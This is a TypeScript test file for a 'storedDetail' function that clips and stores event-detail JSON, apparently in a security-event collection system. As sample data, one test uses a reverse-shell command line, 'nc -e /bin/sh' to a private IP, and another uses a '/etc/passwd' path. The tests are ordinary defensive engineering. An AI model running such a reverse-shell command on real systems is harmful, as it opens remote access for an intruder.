import { describe, expect, it } from 'vitest';
import { storedDetail } from './event-detail.js';

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const bytes = (text: string) => Buffer.byteLength(text);

describe('storedDetail', () => {
  it('keeps a detail within the limit byte for byte, and empty as null', () => {
    const text = '{"path": "/etc/passwd"}';
    expect(storedDetail(text, {}, 1024)).toEqual({ ok: true, json: text, clipped: false });
    expect(storedDetail('', {}, 1024)).toEqual({ ok: true, json: null, clipped: false });
  });

  it('refuses only what is malformed: too deep, not JSON, unstorable', () => {
    expect(storedDetail(nested(10_000), {}, 1 << 20)).toMatchObject({
      ok: false,
      fault: 'too_deep',
    });
    expect(storedDetail('{"a":', {}, 1024)).toMatchObject({ ok: false, fault: 'invalid' });
    expect(storedDetail('{"a":"\\u0000"}', {}, 1024)).toMatchObject({
      ok: false,
      fault: 'invalid',
    });
  });

  it('clips the longest strings first and marks the original size', () => {
    const detail = { cmdline: `nc -e /bin/sh 10.0.0.1 4444 ${'A'.repeat(70_000)}`, pid: 4242 };
    const text = JSON.stringify(detail);
    const result = storedDetail(text, {}, 65_536);
    expect(result).toMatchObject({ ok: true, clipped: true });
    const json = (result as { json: string }).json;
    expect(bytes(json)).toBeLessThanOrEqual(65_536);
    const stored = JSON.parse(json);
    expect(stored.pid).toBe(4242);
    expect(stored.cmdline.startsWith('nc -e /bin/sh 10.0.0.1 4444 AAAA')).toBe(true);
    expect(stored.cmdline.endsWith('…')).toBe(true);
    expect(stored.truncated).toEqual({
      event_detail_bytes: bytes(text),
      string_max_chars: expect.any(Number),
    });
    // Bisection keeps as much as fits: most of the limit is used.
    expect(bytes(json)).toBeGreaterThan(60_000);
  });

  it('keeps an agent\'s own "truncated" marker, adding its fields', () => {
    const text = JSON.stringify({ truncated: { cmdline_bytes: 131_072 }, blob: 'x'.repeat(5000) });
    const stored = JSON.parse((storedDetail(text, {}, 2048) as { json: string }).json);
    expect(stored.truncated).toMatchObject({
      cmdline_bytes: 131_072,
      event_detail_bytes: Buffer.byteLength(text),
    });
  });

  it('falls back to a marker and a preview when even short strings do not fit', () => {
    const many = Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`key${i}`, i]));
    const text = JSON.stringify(many);
    const result = storedDetail(text, {}, 4096) as { ok: true; json: string; clipped: boolean };
    expect(result.clipped).toBe(true);
    expect(bytes(result.json)).toBeLessThanOrEqual(4096);
    const stored = JSON.parse(result.json);
    expect(stored.truncated).toEqual({ event_detail_bytes: bytes(text) });
    expect(text.startsWith(stored.preview.replace(/…$/, ''))).toBe(true);
  });

  it('adds clock-skew flags, keeping a non-object detail under "value"', () => {
    const flags = { clock_skew_us: 3_600_000_000, agent_timestamp_us: 1 };
    expect(JSON.parse((storedDetail('{"a":1}', flags, 1024) as { json: string }).json)).toEqual({
      a: 1,
      ...flags,
    });
    expect(JSON.parse((storedDetail('[1,2]', flags, 1024) as { json: string }).json)).toEqual({
      value: [1, 2],
      ...flags,
    });
    expect(JSON.parse((storedDetail('', flags, 1024) as { json: string }).json)).toEqual(flags);
  });
});
